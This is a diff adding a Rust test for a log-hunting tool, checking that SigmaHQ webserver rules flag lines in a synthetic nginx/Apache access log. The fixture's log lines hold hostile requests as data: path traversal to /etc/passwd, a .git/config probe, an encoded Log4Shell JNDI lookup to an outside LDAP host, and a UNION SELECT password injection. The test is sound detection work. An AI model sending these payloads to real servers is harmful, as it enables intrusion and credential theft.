@@ -700,3 +700,73 @@ fn a_table_of_many_matches_shows_the_first_and_counts_the_rest() {
     let csv = ok(run(&["hunt", "-r", &rules, "--format", "csv", &logs]));
     assert_eq!(csv.lines().count(), 10_051);
 }
+
+/// Web server access logs (nginx and Apache write the combined format by default) meet
+/// SigmaHQ's webserver rules through the taxonomy's W3C field names, and only those rules: the
+/// Linux rules loaded beside them never see a web request.
+#[test]
+fn hunt_reads_web_access_logs_with_the_webserver_rules() {
+    let shared = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules");
+    let dir = tempfile::tempdir().unwrap();
+    let log = r#"198.51.100.23 - - [03/Dec/2026:22:14:01 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"
+203.0.113.50 - - [03/Dec/2026:22:15:10 +0000] "GET /index.php?page=../../../etc/passwd HTTP/1.1" 200 1733 "-" "Mozilla/5.0"
+203.0.113.50 - - [03/Dec/2026:22:15:11 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0"
+203.0.113.50 - - [03/Dec/2026:22:15:12 +0000] "GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%2Fa%7D HTTP/1.1" 200 5120 "-" "curl/8.5.0"
+this line is no request
+203.0.113.50 - - [03/Dec/2026:22:15:13 +0000] "GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 500 0 "-" "Mozilla/5.0"
+192.0.2.7 - - [03/Dec/2026:22:16:00 +0000] "\x16\x03\x01\x00\xf7\x01\x00\x00\xf3\x03\x03" 400 157 "-" "-"
+"#;
+    let file = dir.path().join("access.log");
+    std::fs::write(&file, log).unwrap();
+    let out = crate::support::vigil()
+        .args(["hunt", "--format", "jsonl", "-r"])
+        .arg(shared.join("web"))
+        .arg("-r")
+        .arg(shared.join("linux"))
+        .arg(&file)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    let hits = jsonl(&ok(out));
+    let mut found: Vec<(u64, &str)> = hits
+        .iter()
+        .map(|h| {
+            (
+                h["record_id"].as_u64().unwrap(),
+                h["rule_title"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            (2, "Path Traversal Exploitation Attempts"),
+            (3, "Source Code Enumeration Detection by Keyword"),
+            (6, "SQL Injection Strings In URI"),
+        ],
+        "{stderr}"
+    );
+    let traversal = &hits[0]["event"];
+    assert_eq!(
+        (
+            &traversal["c-ip"],
+            &traversal["cs-uri-stem"],
+            &traversal["cs-uri-query"],
+            &traversal["sc-status"]
+        ),
+        (
+            &serde_json::json!("203.0.113.50"),
+            &serde_json::json!("/index.php"),
+            &serde_json::json!("page=../../../etc/passwd"),
+            &serde_json::json!(200)
+        )
+    );
+    assert_eq!(hits[0]["timestamp"], "2026-12-03T22:15:10.000Z");
+    // The line that is no request is named with its line; the rest were read.
+    assert!(
+        stderr.contains("access.log: record 5: not a web access log line"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("1 file, 6 events"), "{stderr}");
+}
